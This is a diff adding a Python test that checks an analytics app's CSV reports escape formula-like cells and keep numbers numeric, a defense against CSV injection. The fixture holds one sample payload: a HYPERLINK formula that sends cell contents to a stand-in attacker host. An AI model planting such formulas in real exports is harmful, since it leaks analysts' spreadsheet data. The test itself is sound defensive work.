@@ -3,6 +3,8 @@ out-of-order delivery of the same events gives exactly the same reports."""
 
 from __future__ import annotations
 
+import csv
+import io
 import random
 import secrets
 from collections.abc import AsyncIterator
@@ -27,6 +29,7 @@ from apps.analytics.queries import (
     TopProductsQuery,
 )
 from apps.analytics.reports import REPORTS, Report
+from apps.kit.csv_cells import csv_text
 from apps.kit.events import Event
 
 T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
@@ -431,3 +434,51 @@ async def test_duplicates_and_any_order_give_the_same_reports(read_models: None,
     rng.shuffle(shuffled)
     assert [r.model_dump() for r in await _deliver(shuffled)] == expected
     assert [r.model_dump() for r in await _deliver(list(reversed(events)))] == expected
+
+
+async def test_csv_cells_cannot_become_spreadsheet_formulas(read_models: None) -> None:
+    """OWASP CSV injection: text a distributor or a clerk typed reaches an analyst's
+    spreadsheet as text, never as a live formula; numbers stay numbers."""
+    feed = Feed()
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
+    _order(
+        feed,
+        1,
+        evil,
+        "@SUM(1+1)",
+        [_line("MAT-Q", "mattress", 1, 1_500_000)],
+        ["placed", "confirmed"],
+        T0,
+    )
+    for model in READ_MODELS:
+        await model.get_pymongo_collection().delete_many({})
+    for source, event in feed.events:
+        await HANDLERS[source](event, None)
+    sales = REPORTS["sales"][1]
+    by_distributor = await sales(SalesQuery(group_by=SalesGroup.DISTRIBUTOR))
+    by_region = await sales(SalesQuery(group_by=SalesGroup.REGION))
+    rows = list(csv.DictReader(io.StringIO(by_distributor.csv())))
+    assert [(r["group"], r["label"]) for r in rows] == [("'" + evil, "'" + evil.title())]
+    assert rows[0]["net_revenue_paise"] == "1500000"
+    (region,) = csv.DictReader(io.StringIO(by_region.csv()))
+    assert region["group"] == "'@SUM(1+1)"
+
+    table = csv_text(
+        ["text", "amount"],
+        [
+            {"text": t, "amount": -1_500}
+            for t in ["+1", "-1", "\tx", "\rx", "=1", "@x", "plain", "it's"]
+        ],
+    )
+    parsed = list(csv.reader(io.StringIO(table, newline="")))[1:]
+    assert [row[0] for row in parsed] == [
+        "'+1",
+        "'-1",
+        "'\tx",
+        "'\rx",
+        "'=1",
+        "'@x",
+        "plain",
+        "it's",
+    ]
+    assert {row[1] for row in parsed} == {"-1500"}  # a negative number is not text
